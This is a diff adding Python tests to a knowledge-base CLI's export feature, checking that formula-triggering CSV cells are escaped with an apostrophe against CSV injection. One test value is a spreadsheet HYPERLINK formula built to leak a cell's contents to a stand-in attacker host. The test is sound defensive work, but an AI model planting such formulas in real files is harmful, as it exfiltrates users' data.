@@ -113,3 +113,47 @@ def test_export_command_errors(tmp_path):
     assert result.exit_code == 2 and "no knowledge base" in result.stderr
     result = invoke("export", "--format", "pdf", "--db", str(tmp_path / "none.db"))
     assert result.exit_code == 2
+
+
+def test_csv_cells_cannot_start_a_formula(tmp_path):
+    """Text from articles (a title, a name, a sentence) that a spreadsheet would run as a formula is written
+    with a leading apostrophe (OWASP, CSV Injection); JSON Lines keeps the exact text, numbers stay numbers."""
+    evil = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
+    entities = {"RAID": (evil, "armed_group", ["Raiders"]), "PAK": ENTITIES["PAK"]}
+    doc = make_doc("@Raiders attacked Pakistan on Monday. Officials said it was over.", "+1-cmd.txt",
+                   "2025-03-10", entities, [{"subject": ["RAID"], "predicate": "ASSAULT", "object": ["PAK"],
+                                             "anchor": "attacked"}])
+    path = tmp_path / "kb.db"
+    with Store(str(path)) as store:
+        store.write(document_rows(doc))
+        store.regroup()
+    result = invoke("export", "--format", "csv", "--out", str(tmp_path / "csv"), "--db", str(path))
+    assert result.exit_code == 0, result.output
+    with (tmp_path / "csv" / "nodes.csv").open(encoding="utf-8", newline="") as f:
+        nodes = {row["id"]: row for row in csv.DictReader(f)}
+    assert nodes["RAID"]["name"] == "'" + evil
+    assert nodes["PAK"]["name"] == "Pakistan" and nodes["RAID"]["mentions"] == "1"
+    with (tmp_path / "csv" / "claims.csv").open(encoding="utf-8", newline="") as f:
+        (claim,) = list(csv.DictReader(f))
+    assert claim["evidence_text"] == "'@Raiders attacked Pakistan on Monday."
+    assert claim["document_source"] == "'+1-cmd.txt"
+    assert claim["subject_names"] == "'" + evil
+    assert claim["object_names"] == "Pakistan"
+    assert claim["evidence_start"] == "0"
+    result = invoke("export", "--format", "jsonl", "--db", str(path))
+    names = {r["id"]: r["name"] for r in map(json.loads, result.stdout.splitlines()) if r["table"] == "nodes"}
+    assert names["RAID"] == evil
+
+
+@pytest.mark.parametrize(("cell", "written"), [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
+    ("a=1", "a=1"), ("", ""), ("'quoted", "'quoted"), (" =x", " =x"),
+])
+def test_neutralise_cell(cell, written):
+    assert exporters.neutralise_cell(cell) == written
+    assert exporters._csv_value(cell) == written
+    assert exporters._csv_value([cell, "=b"]) == written + "; =b"  # a list is one cell: its start counts
+
+
+def test_csv_numbers_are_not_changed():
+    assert exporters._csv_value(-3) == -3 and exporters._csv_value(-0.5) == -0.5
